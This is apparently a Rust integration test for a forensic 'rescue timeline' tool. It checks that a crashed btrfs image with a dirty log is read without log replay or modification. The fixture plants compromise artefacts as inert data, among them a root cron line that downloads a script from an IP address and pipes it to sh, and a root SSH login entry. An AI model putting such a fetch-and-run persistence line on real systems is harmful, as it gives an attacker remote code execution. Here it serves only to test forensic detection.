//! A crashed btrfs with a dirty log (issue 20), read through the real binary without replaying it.
//!
//! The fixture is made with the real tools: `mkfs.btrfs --rootdir` on a writable scratch block device
//! (a loop device, or a zram device where this kernel attaches loop devices read-only only), mounted
//! read-write with `commit=300`, a file written and fsynced (btrfs puts it in the log tree, not in a
//! transaction), and the device copied while still mounted: the copy is what a power cut leaves.
//! `btrfs inspect-internal dump-super` proves its log is dirty. Then `rescue timeline` (which mounts
//! through `examine::mount`) must read it, leave it byte-identical (`sha256sum`) with the same
//! `log_root`, and, for contrast, the kernel's own `mount -o ro` of a read-only loop device refuses it
//! (a log replay needs to write).
//!
//! Gated: root and a scratch device unless skipping is forbidden by `RESCUE_REQUIRE_LOOP=1`, the tools
//! unless `RESCUE_REQUIRE_TOOLS=1`; leaves the marker `btrfs-dirty-log` in `RESCUE_TEST_MARKERS`.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

fn run(cmd: &mut Command) -> String {
    let o = cmd.output().unwrap_or_else(|e| panic!("{cmd:?}: {e}"));
    assert!(o.status.success(), "{cmd:?}: {}", text(&o));
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// Whether `tool` runs; a missing tool skips the test unless `RESCUE_REQUIRE_TOOLS` is set.
fn have(tool: &str, what: &str) -> bool {
    let ok = Command::new("sh")
        .args(["-c", "command -v \"$0\"", tool])
        .output()
        .is_ok_and(|o| o.status.success());
    if !ok {
        assert!(
            std::env::var_os("RESCUE_REQUIRE_TOOLS").is_none(),
            "{what} needs {tool} and RESCUE_REQUIRE_TOOLS forbids skipping it"
        );
        eprintln!("skipped {what}: {tool} is not installed");
    }
    ok
}

fn skip_unless_allowed(what: &str, why: &str) {
    assert!(
        std::env::var("RESCUE_REQUIRE_LOOP").is_err(),
        "{what} needs {why} and RESCUE_REQUIRE_LOOP=1 forbids skipping it"
    );
    eprintln!("skipped {what}: needs {why}");
}

/// A writable block device for the fixture, released on drop (unmounted first).
struct Scratch {
    dev: PathBuf,
    zram: Option<String>,
    mountpoint: Option<PathBuf>,
}

impl Scratch {
    /// A loop device over `backing` if this kernel attaches it writable, else a fresh zram device.
    fn new(backing: &Path, size: u64) -> Option<Scratch> {
        std::fs::File::create(backing)
            .unwrap()
            .set_len(size)
            .unwrap();
        let o = Command::new("losetup")
            .args(["-f", "--show", s(backing)])
            .output()
            .ok()?;
        if o.status.success() {
            let dev = String::from_utf8_lossy(&o.stdout).trim().to_owned();
            let ro = run(Command::new("blockdev").args(["--getro", &dev]));
            if ro.trim() == "0" {
                return Some(Scratch {
                    dev: dev.into(),
                    zram: None,
                    mountpoint: None,
                });
            }
            // Some sandboxed kernels attach every loop device read-only.
            run(Command::new("losetup").args(["-d", &dev]));
        }
        let id = std::fs::read_to_string("/sys/class/zram-control/hot_add").ok()?;
        let id = id.trim().to_owned();
        std::fs::write(format!("/sys/block/zram{id}/disksize"), size.to_string()).unwrap();
        Some(Scratch {
            dev: format!("/dev/zram{id}").into(),
            zram: Some(id),
            mountpoint: None,
        })
    }

    fn unmount(&mut self) {
        if let Some(m) = self.mountpoint.take() {
            run(Command::new("umount").arg(&m));
        }
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        if let Some(m) = self.mountpoint.take() {
            let _ = Command::new("umount").arg(&m).status();
        }
        match &self.zram {
            Some(id) => {
                let _ = std::fs::write(format!("/sys/block/zram{id}/reset"), "1");
                let _ = std::fs::write("/sys/class/zram-control/hot_remove", id);
            }
            None => {
                let _ = Command::new("losetup").arg("-d").arg(&self.dev).status();
            }
        }
    }
}

/// `log_root` and `generation` from `btrfs inspect-internal dump-super`.
fn super_fields(image: &Path) -> (u64, u64) {
    let out = run(Command::new("btrfs").args(["inspect-internal", "dump-super", s(image)]));
    let field = |name: &str| {
        out.lines()
            .find_map(|l| {
                let mut w = l.split_whitespace();
                (w.next() == Some(name)).then(|| w.next().unwrap().parse::<u64>().unwrap())
            })
            .unwrap_or_else(|| panic!("no {name} in dump-super: {out}"))
    };
    (field("log_root"), field("generation"))
}

fn sha256(p: &Path) -> String {
    run(Command::new("sha256sum").arg(p))
        .split_whitespace()
        .next()
        .unwrap()
        .to_owned()
}

#[test]
fn a_btrfs_with_a_dirty_log_is_read_without_replaying_it() {
    let what = "the dirty-log btrfs check";
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        skip_unless_allowed(what, "root");
        return;
    }
    if !have("mkfs.btrfs", what) || !have("btrfs", what) || !have("sha256sum", what) {
        return;
    }
    let d = tempfile::tempdir().unwrap();
    let root = d.path().join("root");
    std::fs::create_dir_all(root.join("etc/cron.d")).unwrap();
    std::fs::create_dir_all(root.join("var/log")).unwrap();
    std::fs::write(
        root.join("etc/os-release"),
        "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nID=debian\nVERSION_ID=\"12\"\n",
    )
    .unwrap();
    std::fs::write(
        root.join("etc/cron.d/0hourly-sync"),
        "*/5 * * * * root curl -s http://203.0.113.9/x | sh\n",
    )
    .unwrap();
    std::fs::write(
        root.join("var/log/auth.log"),
        "Mar  3 10:00:00 db3 sshd[41]: Accepted password for root from 203.0.113.7 port 51000 ssh2\n",
    )
    .unwrap();

    // btrfs' minimum size with the default DUP metadata is about 114 MiB.
    let Some(mut scratch) = Scratch::new(&d.path().join("backing.img"), 160 << 20) else {
        skip_unless_allowed(what, "a writable loop or zram device");
        return;
    };
    run(Command::new("mkfs.btrfs")
        .args(["-q", "-f", "--rootdir"])
        .arg(&root)
        .arg(&scratch.dev));
    let mnt = d.path().join("mnt");
    std::fs::create_dir(&mnt).unwrap();
    run(Command::new("mount")
        .args(["-t", "btrfs", "-o", "commit=300"])
        .arg(&scratch.dev)
        .arg(&mnt));
    scratch.mountpoint = Some(mnt.clone());
    // fsync of a file created after the last commit: btrfs writes it to the log tree only (no
    // transaction commits within 300 s), which is what makes the log dirty.
    {
        use std::io::Write;
        let mut f = std::fs::File::create(mnt.join("var/log/after-commit.log")).unwrap();
        f.write_all(b"written and fsynced after the last transaction commit\n")
            .unwrap();
        f.sync_all().unwrap();
    }
    // Copy the device itself, bypassing its page cache, while the filesystem is still mounted.
    let copy = d.path().join("crashed.img");
    run(Command::new("dd")
        .arg(format!("if={}", s(&scratch.dev)))
        .arg(format!("of={}", s(&copy)))
        .args(["bs=1M", "iflag=direct", "status=none"]));
    scratch.unmount();
    drop(scratch);

    let (log_root, generation) = super_fields(&copy);
    assert_ne!(
        log_root, 0,
        "the copy's log is not dirty: the fsync committed a transaction instead of logging"
    );
    let before = sha256(&copy);

    let out = d.path().join("out");
    let o = Command::new(env!("CARGO_BIN_EXE_rescue"))
        .args(["timeline", s(&copy), "--out", s(&out), "--tz", "UTC"])
        .env_remove("RESCUE_SYSTEM")
        .env("COLUMNS", "1000")
        .output()
        .unwrap();
    let said = text(&o);
    assert!(o.status.success(), "{said}");
    let body = std::fs::read_to_string(out.join("bodyfile.txt")).unwrap();
    for committed in [
        "/etc/os-release",
        "/etc/cron.d/0hourly-sync",
        "/var/log/auth.log",
    ] {
        assert!(
            body.contains(&format!("|{committed}|")),
            "{committed} missing from the body file: {said}\n{body}"
        );
    }
    // The fsynced file exists only in the log tree; without log replay the mounted tree is the last
    // committed transaction, so it is absent. Seeing it would mean the log was replayed.
    assert!(
        !body.contains("after-commit.log"),
        "the log was replayed: {body}"
    );
    let login = std::fs::read_to_string(out.join("timeline.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .find(|e| e["path"] == "/var/log/auth.log")
        .unwrap_or_else(|| panic!("no event from /var/log/auth.log: {said}"));
    assert_eq!(login["suspicious"], "root logged in over SSH");

    assert_eq!(sha256(&copy), before, "the copy changed");
    assert_eq!(
        super_fields(&copy),
        (log_root, generation),
        "the log was replayed"
    );

    // Contrast: the kernel's plain read-only mount insists on replaying the log, which a read-only
    // device cannot take ("log replay required on RO media").
    let lo = run(Command::new("losetup").args(["-f", "--show", "-r", s(&copy)]));
    let lo = lo.trim();
    let plain = d.path().join("plain");
    std::fs::create_dir(&plain).unwrap();
    let o = Command::new("mount")
        .args(["-t", "btrfs", "-o", "ro", lo, s(&plain)])
        .output()
        .unwrap();
    if o.status.success() {
        let _ = Command::new("umount").arg(&plain).status();
    }
    run(Command::new("losetup").args(["-d", lo]));
    assert!(
        !o.status.success(),
        "plain `mount -o ro` of a read-only loop device mounted a dirty-log btrfs"
    );
    assert_eq!(sha256(&copy), before, "the copy changed");

    if let Some(m) = std::env::var_os("RESCUE_TEST_MARKERS") {
        let _ = std::fs::create_dir_all(&m);
        let _ = std::fs::write(Path::new(&m).join("btrfs-dirty-log"), b"ran\n");
    }
}
